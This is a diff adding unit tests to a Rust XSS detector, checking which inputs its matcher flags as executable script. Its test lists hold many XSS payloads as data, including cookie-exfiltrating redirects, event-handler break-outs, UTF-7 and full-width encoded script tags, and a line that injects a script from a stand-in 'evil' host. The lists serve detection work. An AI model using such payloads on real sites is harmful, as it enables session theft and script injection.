@@ -599,3 +599,119 @@ fn markup_soup_never_panics() {
         let _ = super::inert_markup(&s);
     }
 }
+
+#[test]
+fn documentation_code_is_not_a_call() {
+    // API-reference notation, callbacks handed to someone else, code shown in code elements,
+    // and prose around a word followed by parentheses: nothing runs
+    for v in [
+        "setTimeout(callback, delay[, ...args])#",
+        "setInterval(callback[, delay])",
+        "_.defer(function(){ alert('deferred'); });\n// Returns before the alert runs.",
+        "var v = {\n  onClick: function(){ alert('clicked: ' + this.label); }\n};",
+        "button.on('click', () => { alert('hi'); });",
+        "<li><a href=\"#atobdata\"><code>atob(data)</code></a></li>",
+        "<li><a href=\"#rlsetpromptprompt\"><code>rl.setPrompt(prompt)</code></a></li>",
+        "<pre> _.defer(function(){ alert('deferred'); }); </pre>",
+        "<pre><code class=\"language-js\">const f = () =&gt; alert(\"hi\");</code></pre>",
+        "<p>Use <code>eval(expr)</code> only on trusted input.</p>",
+        "confirm(your attendance) by Friday",
+        "eval(expression) evaluates the expression",
+        "window.alert(message) shows a dialog",
+        "I set onload=true in the config file",
+        "onerror=ignore",
+        "Set onload='init' in the body tag docs",
+        "location.href = '/login';",
+        "window.location = \"/home\"; // redirect",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    // look-alikes that do run: invoked function literals, calls outside code elements,
+    // calls in attributes, real arguments, break-outs before a plain handler word
+    for v in [
+        "(function(){ alert(1) })()",
+        "[1].map(function(){alert(1)})",
+        "[1].forEach(() => { alert(document.domain) })",
+        "new Promise(function(r){ alert(1) })",
+        "function(){alert(1)}()",
+        "setTimeout(function(){alert(1)},0)",
+        "<code>x</code><svg onload=alert(1)>",
+        "<code title=\"a\" onclick=\"alert(1)\">x</code>",
+        "<b>x</b>';alert(1)//",
+        "alert(document.cookie)",
+        "alert('xss') // comment",
+        "alert?.(1)",
+        "confirm(1)",
+        "\" onerror=KCF \"",
+        "x onfocus=alert autofocus",
+        "x onload='alert'",
+        "location.href = 'javascript:alert(1)';",
+        "location.href = '//evil.example/';",
+        "location.href = '/x?c=' + document.cookie;",
+        "document.location='/'+document.cookie",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
+fn utf7_and_full_width_markup_without_ascii_punctuation() {
+    // nothing but `+`, `-`, `/` or full-width forms: the decoders must still see them
+    for v in [
+        "+ADw-script+AD4-alert+ACg-1+ACk-+ADw-/script+AD4-",
+        "+ADw-img src+AD0-x onerror+AD0-alert+ACg-1+ACk-+AD4-",
+        "\u{ff1c}script\u{ff1e}alert\u{ff08}1\u{ff09}\u{ff1c}/script\u{ff1e}",
+        "\u{ff1c}img src\u{ff1d}x onerror\u{ff1d}alert\u{ff08}1\u{ff09}\u{ff1e}",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "C++ programming",
+        "+1 (555) 010-9999",
+        "q=a+b+c",
+        "\u{ff1c}\u{91cd}\u{8981}\u{ff1e}\u{304a}\u{77e5}\u{3089}\u{305b}",
+        "\u{ff08}\u{682a}\u{ff09}\u{6771}\u{4eac}",
+        "\u{bc} cup sugar, \u{be} cup flour",
+        "\u{2039} prev | next \u{203a}",
+        "\u{ff28}\u{ff45}\u{ff4c}\u{ff4c}\u{ff4f}",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn paired_quotes_in_code_samples_do_not_break_out() {
+    // a quote that closes a string the value itself opened leads back into a string, not
+    // into code: code samples whose quotes pair up
+    for v in [
+        "import csv\nfor row in csv.reader(['one,two,three']):\n    print(row)",
+        ">>> opt_flag = c_int.in_dll(pythonapi, \"Py_OptimizeFlag\")\n>>> print(opt_flag)",
+        ">>> d = deque([\"task1\", \"task2\"])\n>>> print(\"Handling\", d.popleft())",
+        "<pre> _.pick({name: 'moe', age: 50}, 'name', 'age'); </pre>",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    // the first (odd) quote ends the page's string; a third one does again
+    for v in [
+        "';alert(1)//",
+        "\"-alert(1)-\"",
+        "x' + 'y';print(1)//",
+        "');top['al'+'ert'](1);//",
+        // a script made of statements: a later one reaches a sink
+        "x=document.createElement('script');x.src='//evil';document.body.appendChild(x)",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
+fn context_look_arounds_are_budgeted() {
+    // thousands of sink mentions that each would be exempted (uncalled function bodies,
+    // code-element text): past the budget a mention counts as it stands
+    let many = "x(function(){alert(1)});".repeat(2_000);
+    assert!(hit(&many));
+    let code = format!("<code>{}</code>", "alert(1); ".repeat(2_000));
+    assert!(hit(&code));
+    // a handful stays exempted
+    assert!(!hit(&"x(function(){alert(1)});\n".repeat(3)));
+}
